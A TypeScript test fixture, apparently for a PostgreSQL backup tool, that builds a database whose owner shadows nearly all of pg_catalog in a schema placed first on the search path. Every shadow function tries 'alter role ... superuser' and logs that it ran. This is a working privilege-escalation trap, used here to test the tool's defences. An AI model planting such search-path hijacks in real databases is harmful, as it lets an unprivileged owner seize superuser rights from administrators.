// A database whose owner is hostile: schema `evil` comes first on its search path, and in it lies a double of nearly all that
// pg_catalog holds. Each double tells of itself, tries to make the owner a superuser, and then does what the original does.
import { chmodSync, mkdtempSync, readdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { TestContext } from "node:test";
import type { Cluster } from "../../src/engines/postgres/cluster/cluster.ts";
import { connectionFromParts, partsOf } from "../../src/engines/postgres/connect/url.ts";
import type { Connection } from "../../src/ports/connection.ts";
import { query } from "./postgres.ts";

export const OWNER = "mallory";
/** Schemas of the doubles, first on every path. */
export const HOSTILE_PATH = "evil, pg_catalog, public";

export interface HostileSource {
  /** As the cluster's superuser. */
  readonly connection: Connection;
  /** As its owner, who is not a superuser. */
  readonly owner: Connection;
  /** Names of the doubles that ran in a session of a superuser's. */
  fired(): string[];
  /** Whether the owner is a superuser now, or holds any other right that was not given. */
  ownerHasGained(): Promise<boolean>;
}

/**
 * A double's own act. A file says that it ran, because `copy … to` works in read-only transactions too: only a superuser may, so the
 * owner's own sessions leave no trace. Everything else is tried, and its failure swallowed.
 */
const fire = (directory: string): string => `
  create function evil.fire(what pg_catalog.text) returns pg_catalog.bool language plpgsql as $f$
  begin
    if pg_catalog.current_setting('evil.busy', true) operator(pg_catalog.=) 'yes' then return true; end if;
    perform pg_catalog.set_config('evil.busy', 'yes', false);
    begin
      execute pg_catalog.format('copy (select 1) to %L', pg_catalog.concat('${directory}/', pg_catalog.regexp_replace(what, '[^a-z0-9_ ]', '_', 'g')));
    exception when others then null; end;
    begin execute 'alter role ${OWNER} superuser'; exception when others then null; end;
    perform pg_catalog.set_config('evil.busy', 'no', false);
    return true;
  end $f$;`;

/** Operators, functions, relations, types and collations; what cannot be doubled by an ordinary user is passed over. */
const DOUBLES = `
do $plant$
declare item pg_catalog.record;
begin
  for item in select o.oprname as name, o.oid,
      nullif(o.oprleft, 0)::pg_catalog.regtype as lefttype, o.oprright::pg_catalog.regtype as righttype, o.oprresult::pg_catalog.regtype as resulttype
    from pg_catalog.pg_operator o where o.oprnamespace = 'pg_catalog'::pg_catalog.regnamespace
  loop begin
    execute pg_catalog.format('create function evil.op_%s(%s) returns %s language plpgsql as %L', item.oid,
      pg_catalog.concat_ws(', ', item.lefttype, item.righttype), item.resulttype,
      pg_catalog.format('begin perform evil.fire(%L); return %s operator(pg_catalog.%s) %s; end', 'operator ' || item.name,
        case when item.lefttype is null then '' else '$1' end, item.name, case when item.lefttype is null then '$1' else '$2' end));
    execute pg_catalog.format('create operator evil.%s (function = evil.op_%s, %s rightarg = %s)', item.name, item.oid,
      case when item.lefttype is null then '' else pg_catalog.format('leftarg = %s,', item.lefttype) end, item.righttype);
  exception when others then null; end; end loop;

  for item in select p.oid, p.proname as name, pg_catalog.pg_get_function_arguments(p.oid) as arguments, p.pronargs as n,
      pg_catalog.pg_get_function_result(p.oid) as result, p.proretset as set, p.prokind as kind, p.provariadic <> 0 as variadic
    from pg_catalog.pg_proc p where p.pronamespace = 'pg_catalog'::pg_catalog.regnamespace and p.prokind in ('f', 'w')
  loop begin
    execute pg_catalog.format('create function evil.%I(%s) returns %s language plpgsql as %L', item.name, item.arguments, item.result,
      pg_catalog.format('begin perform evil.fire(%L); %s pg_catalog.%I(%s); end', 'function ' || item.name,
        case when item.set then 'return query select * from' else 'return' end, item.name,
        (select pg_catalog.string_agg(case when item.variadic and i = item.n then 'variadic ' else '' end || '$' || i, ', ' order by i)
         from pg_catalog.generate_series(1, item.n) i)));
  exception when others then null; end; end loop;

  for item in select c.relname as name from pg_catalog.pg_class c
    where c.relnamespace = 'pg_catalog'::pg_catalog.regnamespace and c.relkind in ('r', 'v')
  loop begin
    execute pg_catalog.format('create view evil.%I as select * from pg_catalog.%I where evil.fire(%L)', item.name, item.name, 'relation ' || item.name);
    execute pg_catalog.format('grant select on evil.%I to public', item.name);
  exception when others then null; end; end loop;

  for item in select t.typname as name from pg_catalog.pg_type t
    where t.typnamespace = 'pg_catalog'::pg_catalog.regnamespace and t.typtype in ('b', 'r') and t.typcategory <> 'A'
  loop begin
    execute pg_catalog.format('create domain evil.%I as pg_catalog.%I check (evil.fire(%L))', item.name, item.name, 'type ' || item.name);
  exception when others then null; end; end loop;
end $plant$;
create aggregate evil.count(*) (sfunc = evil.counted, stype = pg_catalog.int8, initcond = '0');
create aggregate evil.max(pg_catalog.int8) (sfunc = evil.larger, stype = pg_catalog.int8);
create aggregate evil.sum(pg_catalog.numeric) (sfunc = evil.added, stype = pg_catalog.numeric);
create collation evil."C" (locale = 'POSIX');
grant usage on schema evil to public;`;

const TRANSITIONS = `
  create function evil.counted(pg_catalog.int8) returns pg_catalog.int8 language plpgsql as $f$
    begin perform evil.fire('function count'); return $1 operator(pg_catalog.+) 1; end $f$;
  create function evil.larger(pg_catalog.int8, pg_catalog.int8) returns pg_catalog.int8 language plpgsql as $f$
    begin perform evil.fire('function max'); return $2; end $f$;
  create function evil.added(pg_catalog.numeric, pg_catalog.numeric) returns pg_catalog.numeric language plpgsql as $f$
    begin perform evil.fire('function sum'); return coalesce($1, 0) operator(pg_catalog.+) $2; end $f$;`;

/** Makes the role, the database `name` and its doubles. The database's settings are hostile last, so that making it fires nothing. */
export async function plantHostileSource(t: TestContext, cluster: Cluster, name = "shop"): Promise<HostileSource> {
  const directory = mkdtempSync(join(tmpdir(), "lifeboat-fired-"));
  chmodSync(directory, 0o777);
  t.after(() => rmSync(directory, { recursive: true, force: true }));
  const admin = cluster.connection("postgres");
  await query(admin, `create role ${OWNER} login password 'm'`);
  await query(admin, `create database ${name} owner ${OWNER} template template0`);
  const connection = cluster.connection(name);
  const owner = connectionFromParts({ ...partsOf(connection), user: OWNER, password: "m" });
  // Made by the owner, with nothing that a superuser had to give.
  await query(
    connection,
    `grant create on schema public to ${OWNER}; set role ${OWNER}; create schema evil; ${fire(directory)} ${TRANSITIONS} ${DOUBLES}`,
  );
  await query(
    connection,
    `set role ${OWNER};
     create table public.orders (id int primary key, note text, placed_at timestamptz default now(), total numeric(10,2));
     insert into public.orders select i, 'note ' || i, now(), i from generate_series(1, 200) i;
     create table public.notes (id int primary key, note text); insert into public.notes values (1, null);
     create sequence public.numbers;
     create view public.recent as select * from public.orders;
     create type public.state as enum ('new', 'sent');
     alter database ${name} set search_path to ${HOSTILE_PATH};
     alter database ${name} set standard_conforming_strings to off;
     alter database ${name} set row_security to on;
     alter database ${name} set datestyle to 'SQL, DMY';
     alter database ${name} set transform_null_equals to on`,
  );
  return {
    connection,
    owner,
    fired: () => readdirSync(directory).sort(),
    async ownerHasGained() {
      const [role] = await query<{ gained: boolean }>(
        admin,
        `select rolsuper or rolcreaterole or rolcreatedb or rolreplication or rolbypassrls as gained from pg_catalog.pg_roles where rolname = '${OWNER}'`,
      );
      return role?.gained !== false;
    },
  };
}
